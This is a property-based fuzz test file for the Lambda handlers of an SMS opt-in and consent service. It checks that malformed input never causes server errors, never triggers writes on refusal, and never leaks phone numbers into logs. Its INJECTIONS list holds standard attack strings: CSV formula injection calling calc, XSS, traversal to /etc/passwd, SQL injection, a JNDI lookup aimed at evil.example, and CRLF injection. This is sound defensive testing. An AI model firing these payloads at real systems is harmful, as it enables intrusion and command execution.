"""10,000 generated requests across every route, through each function's lambda_handler against the embedded moto.

Most requests are invalid on purpose: random bodies, wrong types, missing and unknown fields, huge strings, unicode,
path traversal, bad content types, random headers, CSV and HTML injection strings. For every one of them:
- the answer is never a 5xx (for the SNS event: the handler returns its count, it never raises);
- a refused request (4xx) leaves every table item and every S3 object as it was (compared item by item, object by
  object, after each request); an accepted one (2xx) may write, that is its job;
- no log record of the ``optledger`` logger carries a full phone number or message text.

The quota of each route is its hypothesis ``max_examples``; each test checks it sent at least that many requests, and
the run prints the total.
"""

from __future__ import annotations

import base64
import json
import logging
import re
from collections import Counter
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote, urlencode

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from optledger import inbound, runtime
from optledger.models import CAMPAIGN_ID
from optledger.providers import sinch
from optledger.providers import sns as sns_provider
from tests.support import summary
from tests.support.functions import function
from tests.support.optins import ALERTS_DISCLOSURE, DEALS_DISCLOSURE
from tests.support.twilio import form as twilio_form
from tests.support.twilio import http_api_event, load_event
from tests.support.webhooks import HTTP_PROVIDERS, http_event, load_sample, sample_event, sample_now, sns_event

webhooks = function("webhooks")
optins = function("optins")
consents = function("consents")

QUOTAS = {
    "webhooks/twilio": 800,
    **{f"webhooks/{p}": 300 for p in HTTP_PROVIDERS},
    "webhooks/sns": 300,
    "POST /optins json": 1000,
    "POST /optins form": 900,
    "OPTIONS /optins": 200,
    "GET /optin/{campaign}": 500,
    "GET /consents/{phone}": 600,
    "POST /consents/check": 700,
    "POST /consents/events": 700,
    "POST /evidence": 400,
    "PUT /campaigns/{id}": 600,
    "GET /campaigns/{id}": 300,
    "GET /campaigns": 200,
    "GET /reviews": 300,
    "unrouted": 400,
}
SENT: Counter[str] = Counter()
FULL_CHECKS: Counter[str] = Counter()  # refused requests whose table and bucket were compared item by item
LOG_LINES = [0]
STATUSES: Counter[int] = Counter()
SNS_RECORDS = [0]
SENTINEL_TEXT = "marmalade"  # put in generated message texts: must never reach a log record
API_KEY = "Bearer test-api-key"
TELNYX_KEY = Ed25519PrivateKey.generate()
SINCH_SECRET = "sinch-secret-bad-input"


def route_settings(route: str) -> settings:
    return settings(
        max_examples=QUOTAS[route],
        deadline=None,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
    )


# ------------------------------------------------------------------------------------------------------ strategies

INJECTIONS = [
    '=HYPERLINK("http://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "../../../../etc/passwd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%2e%2e%2f%2e%2e%2f",
    "..\\..\\windows\\win.ini",
    "\x00",
    "' OR '1'='1' --",
    "{{7*7}}${7*7}",
    "${jndi:ldap://evil.example/a}",
    "\u202etxt.exe",
    "🙈🙉🙊" * 30,
    "Ｓｔｏｐ",
    "STOP\r\nX-Injected: 1",
    "%00%0d%0a",
    "PHONE#acme#+14155550123",
    "EVENT#0000000001",
    "CAMPAIGN",
    "null",
    "NaN",
    "-1",
    "1e309",
]
huge = st.sampled_from([17 * 1024, 70 * 1024, 300 * 1024]).flatmap(
    lambda n: st.sampled_from(["A", "9", "é", "<", "="]).map(lambda c: c * n)
)
texts = st.one_of(
    st.text(max_size=80),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=300),
    st.binary(max_size=200).map(lambda b: b.decode("latin-1")),
    st.sampled_from(INJECTIONS),
)
phones = st.integers(0, 9999).flatmap(
    lambda n: st.sampled_from(
        [f"+1415555{n:04d}", f"(415) 555-{n:04d}", f"415.555.{n:04d}", f"1-415-555-{n:04d}", f"4155550{n % 1000:03d}"]
    )
)
message_texts = st.one_of(
    texts,
    st.sampled_from(["STOP", "START", "HELP", "YES", "stop texting me", "UNSUBSCRIBE"]),
    texts.map(lambda t: f"{t} {SENTINEL_TEXT}"),
)
scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    texts,
    phones,
)
json_values = st.recursive(
    scalars, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(texts, inner, max_size=4), max_leaves=12
)
junk_values = st.one_of(json_values, huge, phones, st.sampled_from(INJECTIONS))
content_types = st.sampled_from(
    [
        "application/json",
        "application/x-www-form-urlencoded",
        "text/plain",
        "text/html",
        "application/xml",
        "multipart/form-data; boundary=----x",
        "application/json; charset=utf-16",
        "",
        "*/*",
        "application/x-www-form-urlencoded; charset=iso-8859-1",
    ]
)
header_names = st.one_of(
    st.sampled_from(
        [
            "content-type",
            "origin",
            "accept",
            "user-agent",
            "x-forwarded-for",
            "forwarded",
            "authorization",
            "host",
            "content-length",
            "cookie",
            "x-amz-date",
            "x-twilio-signature",
            "telnyx-timestamp",
            "referer",
        ]
    ),
    st.text(alphabet="abcdefghijklmnopqrstuvwxyz0123456789-", min_size=1, max_size=20),
)
random_headers = st.dictionaries(header_names, st.one_of(texts, st.sampled_from(INJECTIONS)), max_size=4)
path_segments = st.one_of(
    texts.map(lambda t: quote(t, safe="")),
    st.sampled_from(INJECTIONS).map(lambda t: quote(t, safe="%")),
    st.sampled_from(["..", "%2e%2e", "..%2F..", "%2F", "C7DEALS%2F..", "C7ALERTS", "C7DEALS", "c7deals", "%00"]),
    phones.map(lambda p: quote(p, safe="")),
    huge.map(lambda h: h[:3000]),
)
queries = st.one_of(
    st.just(""),
    st.dictionaries(texts, texts, max_size=3).map(lambda d: urlencode(d)),
    st.sampled_from(["brand=acme", "brand=../x", "brand=acme&brand=other", "after=zzz", "disclosure=%00", "%%%"]),
)
auth_headers = st.one_of(
    st.just(API_KEY), st.just(API_KEY), st.just(API_KEY), st.sampled_from([None, "", "Bearer x", "Basic Og=="]), texts
)


@st.composite
def mutated_object(draw, base: dict[str, Any]) -> dict[str, Any]:
    """``base`` with a few fields dropped, given junk (wrong types, huge, injections) or added."""
    fields = dict(base)
    names = [*base, "extra", "__proto__", "constructor"]
    for name in draw(st.lists(st.sampled_from(names), min_size=1, max_size=4, unique=True)):
        if draw(st.booleans()) and name in fields:
            fields.pop(name)
        else:
            fields[name] = draw(junk_values)
    return fields


@st.composite
def bodies(draw, base: dict[str, Any], *, form: bool = False) -> tuple[str | None, bool]:
    """(body, isBase64Encoded): the mutated object (JSON or form), a random JSON value, text, bytes, or nothing."""
    mode = draw(st.sampled_from(["fields", "fields", "fields", "json", "text", "bytes", "none", "huge"]))
    if mode == "fields":
        fields = draw(mutated_object(base))
        if form:
            return urlencode({k: v if isinstance(v, str) else json.dumps(v) for k, v in fields.items()}), False
        return json.dumps(fields), False
    if mode == "json":
        return json.dumps(draw(json_values)), False
    if mode == "text":
        return draw(texts), False
    if mode == "bytes":
        return base64.b64encode(draw(st.binary(max_size=300))).decode(), True
    if mode == "huge":
        return draw(huge), False
    return None, False


def api_event(method: str, path: str, *, body: str | None = None, b64: bool = False, **headers: Any) -> dict:
    event = load_event("api/consents_check.json")
    event["rawPath"] = event["requestContext"]["http"]["path"] = path
    event["requestContext"]["http"]["method"] = method
    event["headers"] = {k: v for k, v in {"host": "api.example.com", **headers}.items() if v is not None}
    event["body"], event["isBase64Encoded"] = body, b64
    return event


# ------------------------------------------------------------------------------------------------- the guard


class Collect(logging.Handler):
    """Every record of the optledger loggers, its extra fields included, as text (clock fields left out).

    A stored campaign's id is left out too: ``PUT /campaigns/1-415-555-0123`` with no id in the body is a valid
    campaign id the business chose (letters, digits, '-'), logged on purpose, not a consumer's number."""

    SKIP = frozenset({"created", "msecs", "relativeCreated", "thread", "process", "timestamp"})

    @staticmethod
    def _shown(name: str, value: Any, record: logging.LogRecord) -> bool:
        if name in Collect.SKIP:
            return False
        return not (name == "campaign" and record.getMessage() == "campaign stored" and CAMPAIGN_ID.match(value))

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        fields = {k: v for k, v in record.__dict__.items() if self._shown(k, v, record)}
        self.lines.append(json.dumps(fields, default=str))


FULL_NUMBER = re.compile(r"555\D{0,2}\d{4}|415\D{0,2}555")


DYNAMODB_WRITES = (
    "put_item",
    "update_item",
    "delete_item",
    "transact_write_items",
    "batch_write_item",
    "execute_statement",
    "batch_execute_statement",
    "execute_transaction",
)
S3_WRITES = (
    "put_object",
    "copy_object",
    "delete_object",
    "delete_objects",
    "create_multipart_upload",
    "upload_part",
    "upload_part_copy",
    "complete_multipart_upload",
    "abort_multipart_upload",
    "put_object_acl",
    "put_object_retention",
    "put_object_legal_hold",
    "put_object_tagging",
    "delete_object_tagging",
)
CHECK_EVERY = 40  # a full table scan and bucket listing every this many requests (each costs two moto round trips)


class Guard:
    """Sends requests and checks each answer: no 5xx, and nothing written by a refused request.

    Every successful write the embedded DynamoDB and S3 perform is counted inside moto's backends (whoever the caller),
    so a refused request must leave the count where it was. Independently, every ``CHECK_EVERY`` requests the whole
    table and bucket are also read before and after the request and, if it was refused, compared item by item (what
    the count cannot see, the comparison would).
    """

    def __init__(self, env, monkeypatch) -> None:
        from moto.dynamodb.models import DynamoDBBackend
        from moto.s3.models import S3Backend

        self.env = env
        self.writes = 0
        for backend, names in ((DynamoDBBackend, DYNAMODB_WRITES), (S3Backend, S3_WRITES)):
            for name in names:
                if hasattr(backend, name):
                    monkeypatch.setattr(backend, name, self._counting(getattr(backend, name)))

    def _counting(self, method: Callable) -> Callable:
        def counted(*args: Any, **kwargs: Any) -> Any:
            result = method(*args, **kwargs)
            self.writes += 1
            return result

        return counted

    def snapshot(self) -> tuple[list[Any], list[Any]]:
        items = sorted(self.env.items(), key=lambda i: (i["pk"]["S"], i["sk"]["S"]))
        listed = self.env.s3.list_objects_v2(Bucket=self.env.bucket).get("Contents", [])
        return items, sorted((o["Key"], o["ETag"], o["Size"]) for o in listed)

    def send(self, route: str, handler: Callable, event: dict[str, Any], context: Any) -> dict[str, Any]:
        writes_before = self.writes
        full = (SENT[route] + 1) % CHECK_EVERY == 0
        before = self.snapshot() if full else None
        response = handler(event, context)
        SENT[route] += 1
        if "Records" in event:  # SNS: a count, never an exception (a storage failure is the only raise)
            assert set(response) == {"recorded", "rejected"}
            refused = response["recorded"] == 0
            SNS_RECORDS[0] += 1
        else:
            status = response["statusCode"]
            STATUSES[status] += 1
            assert status < 500, (route, status, response.get("body", "")[:300])
            refused = status >= 400
            if refused and response.get("headers", {}).get("Content-Type", "").startswith("application/json"):
                assert json.loads(response["body"])["error"]
        if refused:
            assert self.writes == writes_before, f"{route}: a refused request wrote"
            if before is not None:
                assert self.snapshot() == before, f"{route}: a refused request changed the table or bucket"
                FULL_CHECKS[route] += 1
        return response


@pytest.fixture
def guard(env, monkeypatch) -> Iterator[Guard]:
    """Every provider configured (Telnyx with a key made here, to sign generated bodies), logs collected."""
    for provider in HTTP_PROVIDERS:
        for name, value in load_sample(provider).get("secrets", {}).items():
            monkeypatch.setenv(f"OPTLEDGER_{name}", value)
    public = TELNYX_KEY.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
    monkeypatch.setenv("OPTLEDGER_TELNYX_PUBLIC_KEY", base64.b64encode(public).decode())
    monkeypatch.setenv("OPTLEDGER_SINCH_WEBHOOK_SECRET", SINCH_SECRET)
    monkeypatch.setattr(sns_provider, "CERTIFICATES", dict(load_sample("sns")["certificates"]))
    monkeypatch.setattr(sns_provider, "fetch_certificate", lambda url: "not a certificate")
    monkeypatch.setattr(inbound, "clock", lambda: sample_now(load_sample("telnyx")))
    runtime.reset()
    collect = Collect()
    logging.getLogger("optledger").addHandler(collect)
    started = sum(SENT.values())
    guard = Guard(env, monkeypatch)
    try:
        yield guard
    finally:
        logging.getLogger("optledger").removeHandler(collect)
    assert sum(SENT.values()) > started
    LOG_LINES[0] += len(collect.lines)
    logs = "\n".join(collect.lines)
    assert SENTINEL_TEXT not in logs
    assert not FULL_NUMBER.search(logs), FULL_NUMBER.search(logs)


# ----------------------------------------------------------------------------------------------------- webhooks


@route_settings("webhooks/twilio")
@given(
    mode=st.sampled_from(["signed-fields", "signed-fields", "unsigned", "noise-headers", "method"]),
    fields=st.dictionaries(
        st.sampled_from(["From", "To", "Body", "MessageSid", "SmsSid", "NumMedia", "NumSegments", "X", "From[]"]),
        st.one_of(texts, phones, message_texts, huge),
        max_size=8,
    ),
    body=st.one_of(message_texts, huge),
    headers=random_headers,
    method=st.sampled_from(["GET", "PUT", "DELETE", "PATCH", "HEAD"]),
)
def test_twilio_webhook(guard, lambda_context, mode, fields, body, headers, method):
    if mode == "signed-fields":  # past the signature: the parser gets the junk
        event = http_api_event(fields)
    else:
        event = http_api_event(twilio_form(body, sid="SMbad"))
        if mode == "unsigned":
            event["body"] = urlencode({**fields, "Body": body})
        elif mode == "noise-headers":
            event["headers"] = {**event["headers"], **headers}
            event["headers"]["x-twilio-signature"] = headers.get("x-twilio-signature", "AAAA")
        else:
            event["requestContext"]["http"]["method"] = method
    guard.send("webhooks/twilio", webhooks.lambda_handler, event, lambda_context)


def signed_junk(provider: str, body: str, timestamp: str) -> dict[str, Any]:
    if provider == "telnyx":
        signature = base64.b64encode(TELNYX_KEY.sign(f"{timestamp}|{body}".encode())).decode()
        headers = {"telnyx-signature-ed25519": signature, "telnyx-timestamp": timestamp}
    else:
        headers = {
            "x-sinch-webhook-signature": sinch.compute_signature(SINCH_SECRET, body.encode(), "n", timestamp),
            "x-sinch-webhook-signature-nonce": "n",
            "x-sinch-webhook-signature-timestamp": timestamp,
        }
    return http_event("POST", f"https://sms.example.com/webhooks/{provider}", headers, body)


@pytest.mark.parametrize("provider", HTTP_PROVIDERS)
@route_settings("webhooks/telnyx")  # 300 each
@given(data=st.data())
def test_provider_webhook(guard, lambda_context, provider, data):
    sample = load_sample(provider)
    inbound.clock = lambda: sample_now(sample)  # restored by the guard's monkeypatch
    modes = ["body", "json", "headers", "query", "method", "provider"]
    if provider in ("telnyx", "sinch"):
        modes += ["signed", "signed", "signed-timestamp"]
    mode = data.draw(st.sampled_from(modes))
    event = sample_event(sample)
    if mode == "body":
        event["body"] = data.draw(st.one_of(texts, huge))
    elif mode == "json":
        original = json.loads(sample["body"]) if sample["body"].startswith("{") else {}
        event["body"] = json.dumps(data.draw(st.one_of(mutated_object(original), json_values)))
    elif mode == "headers":
        event["headers"] = {**event["headers"], **data.draw(random_headers)}
        for name in data.draw(st.lists(st.sampled_from(sorted(event["headers"])), max_size=3)):
            event["headers"][name] = data.draw(texts)
    elif mode == "query":
        event["rawQueryString"] = data.draw(queries)
    elif mode == "method":
        event["requestContext"]["http"]["method"] = data.draw(st.sampled_from(["GET", "PUT", "DELETE", "OPTIONS"]))
    elif mode == "provider":
        event["rawPath"] = "/webhooks/" + data.draw(path_segments)
    else:  # validly signed junk: the parser, not the signature, must refuse it
        original = json.loads(sample["body"])
        body = json.dumps(data.draw(st.one_of(mutated_object(original), json_values)))
        timestamp = str(int(sample_now(sample).timestamp()) - 1)
        if mode == "signed-timestamp":
            timestamp = data.draw(st.one_of(texts, st.integers(-(2**63), 2**63).map(str)))
        event = signed_junk(provider, body, timestamp)
    guard.send(f"webhooks/{provider}", webhooks.lambda_handler, event, lambda_context)


@route_settings("webhooks/sns")
@given(
    changes=st.dictionaries(
        st.sampled_from(
            [
                "Message",
                "Signature",
                "SignatureVersion",
                "Type",
                "TopicArn",
                "Timestamp",
                "MessageId",
                "SigningCertUrl",
                "MessageAttributes",
                "Subject",
            ]
        ),
        junk_values,
        min_size=1,
        max_size=3,
    ),
    message=st.one_of(
        st.none(),
        st.dictionaries(
            st.sampled_from(
                ["originationNumber", "destinationNumber", "messageBody", "inboundMessageId", "messageKeyword"]
            ),
            st.one_of(phones, message_texts, json_values),
            max_size=5,
        ),
    ),
    source=st.sampled_from(["aws:sns", "aws:sns", "aws:sqs", ""]),
)
def test_end_user_messaging_record(guard, lambda_context, changes, message, source):
    sample = load_sample("sns")
    inbound.clock = lambda: sample_now(sample)
    event = sns_event(sample)
    record = event["Records"][0]
    record["EventSource"] = source
    if message is not None:
        record["Sns"]["Message"] = json.dumps(message)
    record["Sns"].update(changes)
    guard.send("webhooks/sns", webhooks.lambda_handler, event, lambda_context)


# ------------------------------------------------------------------------------------------------------- opt-ins

OPTIN_JSON = json.loads(load_event("api/optin_json.json")["body"])
OPTIN_FORM = {
    "phone": "(415) 555-0124",
    "campaign": "C7DEALS",
    "consent": "on",
    "disclosure_sha256": "4be49ca62ffd88e1da5a496b8cc8322df3b2ae034759ac01c6f80c176ab48dfb",
    "page_url": "https://acme.example/deals",
    "subject": "Jane Doe",
    "session_id": "sess-0002",
}
origins = st.one_of(
    st.sampled_from(["https://acme.example", "https://evil.example", "null", "", "https://acme.example.evil.example"]),
    texts,
)


def optin_request(kind: str, data: st.DataObject) -> dict[str, Any]:
    base = dict(OPTIN_JSON if kind == "json" else OPTIN_FORM)
    base["phone"] = data.draw(phones)
    base["disclosure"] = data.draw(st.sampled_from([ALERTS_DISCLOSURE, DEALS_DISCLOSURE, "short text"]))
    body, b64 = data.draw(bodies(base, form=kind == "form"))
    event = load_event(f"api/optin_{kind}.json")
    event["body"], event["isBase64Encoded"] = body, b64
    event["headers"].pop("content-length", None)
    if data.draw(st.integers(0, 4)) == 0:
        event["headers"]["content-type"] = data.draw(content_types)
    if data.draw(st.booleans()):
        event["headers"]["origin"] = data.draw(origins)
    if data.draw(st.integers(0, 3)) == 0:
        event["headers"]["accept"] = "text/html"
    event["headers"].update(data.draw(random_headers))
    return event


@route_settings("POST /optins json")
@given(data=st.data())
def test_optins_json(guard, lambda_context, data):
    guard.send("POST /optins json", optins.lambda_handler, optin_request("json", data), lambda_context)


@route_settings("POST /optins form")
@given(data=st.data())
def test_optins_form(guard, lambda_context, data):
    guard.send("POST /optins form", optins.lambda_handler, optin_request("form", data), lambda_context)


@route_settings("OPTIONS /optins")
@given(origin=st.one_of(st.none(), origins), headers=random_headers)
def test_optins_preflight(guard, lambda_context, origin, headers):
    event = load_event("api/optin_preflight.json")
    event["headers"] = {**event["headers"], **headers, "origin": origin}
    event["headers"] = {k: v for k, v in event["headers"].items() if v is not None}
    guard.send("OPTIONS /optins", optins.lambda_handler, event, lambda_context)


@route_settings("GET /optin/{campaign}")
@given(campaign=path_segments, query=queries, headers=random_headers)
def test_hosted_page(guard, lambda_context, campaign, query, headers):
    event = load_event("api/optin_page.json")
    event["rawPath"] = event["requestContext"]["http"]["path"] = f"/optin/{campaign}"
    event["rawQueryString"] = query
    event["headers"].update(headers)
    response = guard.send("GET /optin/{campaign}", optins.lambda_handler, event, lambda_context)
    assert "<script>" not in response["body"]


# ------------------------------------------------------------------------------------- authenticated business API


@route_settings("GET /consents/{phone}")
@given(phone=st.one_of(path_segments, phones.map(lambda p: quote(p, safe=""))), query=queries, auth=auth_headers)
def test_consents_get(guard, lambda_context, phone, query, auth):
    event = api_event("GET", f"/consents/{phone}", authorization=auth)
    event["rawQueryString"] = query
    guard.send("GET /consents/{phone}", consents.lambda_handler, event, lambda_context)


CHECK = {"phone": "+14155550123", "campaign": "C7DEALS", "purpose": "promotional", "at": "2026-11-28T18:00:00Z"}
CONSENT_EVENT = json.loads(load_event("api/consents_event.json")["body"])
CAMPAIGN = json.loads(load_event("api/campaign_put.json")["body"])


def authed_body_event(method: str, path: str, base: dict[str, Any], data: st.DataObject) -> dict[str, Any]:
    fields = dict(base)
    if "phone" in fields:
        fields["phone"] = data.draw(phones)
    body, b64 = data.draw(bodies(fields))
    event = api_event(method, path, body=body, b64=b64, authorization=data.draw(auth_headers))
    event["headers"]["content-type"] = data.draw(content_types)
    event["headers"].update(data.draw(random_headers))
    return event


@route_settings("POST /consents/check")
@given(data=st.data())
def test_send_gate(guard, lambda_context, data):
    event = authed_body_event("POST", "/consents/check", CHECK, data)
    guard.send("POST /consents/check", consents.lambda_handler, event, lambda_context)


@route_settings("POST /consents/events")
@given(data=st.data())
def test_consent_events(guard, lambda_context, data):
    base = {**CONSENT_EVENT, "type": data.draw(st.sampled_from(["opt_in", "opt_out", "help", "x"]))}
    base["channel"] = data.draw(st.sampled_from(["verbal", "paper", "pos", "ivr", "email", "api", "sms", "web_form"]))
    event = authed_body_event("POST", "/consents/events", base, data)
    guard.send("POST /consents/events", consents.lambda_handler, event, lambda_context)


@route_settings("POST /evidence")
@given(data=st.data())
def test_evidence(guard, lambda_context, data):
    base = {"phone": "+14155550123", "campaign": data.draw(st.sampled_from(["C7DEALS", "C7CHAT", "nope"]))}
    event = authed_body_event("POST", "/evidence", base, data)
    guard.send("POST /evidence", consents.lambda_handler, event, lambda_context)


@route_settings("PUT /campaigns/{id}")
@given(data=st.data(), campaign_id=st.one_of(st.just("C7NEWS"), st.just("C7DEALS"), path_segments))
def test_campaign_put(guard, lambda_context, data, campaign_id):
    event = authed_body_event("PUT", f"/campaigns/{campaign_id}", CAMPAIGN, data)
    guard.send("PUT /campaigns/{id}", consents.lambda_handler, event, lambda_context)


@route_settings("GET /campaigns/{id}")
@given(campaign_id=path_segments, auth=auth_headers, headers=random_headers)
def test_campaign_get(guard, lambda_context, campaign_id, auth, headers):
    event = api_event("GET", f"/campaigns/{campaign_id}", authorization=auth)
    event["headers"].update(headers)
    guard.send("GET /campaigns/{id}", consents.lambda_handler, event, lambda_context)


@route_settings("GET /campaigns")
@given(query=queries, auth=auth_headers, headers=random_headers, body=st.one_of(st.none(), texts))
def test_campaign_list(guard, lambda_context, query, auth, headers, body):
    event = api_event("GET", "/campaigns", body=body, authorization=auth)
    event["rawQueryString"] = query
    event["headers"].update(headers)
    guard.send("GET /campaigns", consents.lambda_handler, event, lambda_context)


@route_settings("GET /reviews")
@given(brand=st.one_of(st.none(), st.just("acme"), texts), after=st.one_of(st.none(), texts), auth=auth_headers)
def test_reviews(guard, lambda_context, brand, after, auth):
    event = api_event("GET", "/reviews", authorization=auth)
    event["rawQueryString"] = urlencode({k: v for k, v in {"brand": brand, "after": after}.items() if v is not None})
    guard.send("GET /reviews", consents.lambda_handler, event, lambda_context)


FUNCTIONS = {"webhooks": webhooks, "optins": optins, "consents": consents}


@route_settings("unrouted")
@given(
    function_name=st.sampled_from(sorted(FUNCTIONS)),
    method=st.sampled_from(["GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "get", "BREW"]),
    path=st.one_of(
        st.sampled_from(
            [
                "/",
                "",
                "/consents",
                "/optin",
                "/optins/x",
                "/webhooks",
                "/campaigns/",
                "/health/..",
                "//consents/check",
                "/consents/check/",
                "/evidence/x",
                "/reviews/../campaigns",
            ]
        ),
        path_segments.map(lambda s: "/" + s),
    ),
    auth=auth_headers,
    body=st.one_of(st.none(), texts),
)
def test_unrouted_requests(guard, lambda_context, function_name, method, path, auth, body):
    event = api_event(method, path, body=body, authorization=auth)
    guard.send("unrouted", FUNCTIONS[function_name].lambda_handler, event, lambda_context)


# ------------------------------------------------------------------------------------------------------ the count

ROUTE_OF_TEST = {
    "test_twilio_webhook": ["webhooks/twilio"],
    "test_provider_webhook": [f"webhooks/{p}" for p in HTTP_PROVIDERS],
    "test_end_user_messaging_record": ["webhooks/sns"],
    "test_optins_json": ["POST /optins json"],
    "test_optins_form": ["POST /optins form"],
    "test_optins_preflight": ["OPTIONS /optins"],
    "test_hosted_page": ["GET /optin/{campaign}"],
    "test_consents_get": ["GET /consents/{phone}"],
    "test_send_gate": ["POST /consents/check"],
    "test_consent_events": ["POST /consents/events"],
    "test_evidence": ["POST /evidence"],
    "test_campaign_put": ["PUT /campaigns/{id}"],
    "test_campaign_get": ["GET /campaigns/{id}"],
    "test_campaign_list": ["GET /campaigns"],
    "test_reviews": ["GET /reviews"],
    "test_unrouted_requests": ["unrouted"],
}


def test_the_quotas_cover_every_route_and_add_up_to_10000():
    assert sum(QUOTAS.values()) == 10_000
    assert sorted(r for routes in ROUTE_OF_TEST.values() for r in routes) == sorted(QUOTAS)


@pytest.fixture(autouse=True, scope="module")
def report_count() -> Iterator[None]:
    yield
    for route, sent in SENT.items():
        assert sent >= QUOTAS[route], (route, sent)
    if SENT:
        assert LOG_LINES[0] > 0  # the handlers did log (and none of it carried a number or a message text)
    accepted = sum(n for status, n in STATUSES.items() if status < 300)
    refused = sum(n for status, n in STATUSES.items() if status >= 400)
    summary.LINES.append(
        f"test_bad_input: {sum(SENT.values())} generated requests sent over {len(SENT)} routes "
        f"({accepted} accepted, {refused} refused, {SNS_RECORDS[0]} SNS events), "
        f"{sum(FULL_CHECKS.values())} refused ones checked item by item, "
        f"{LOG_LINES[0]} log records checked"
    )
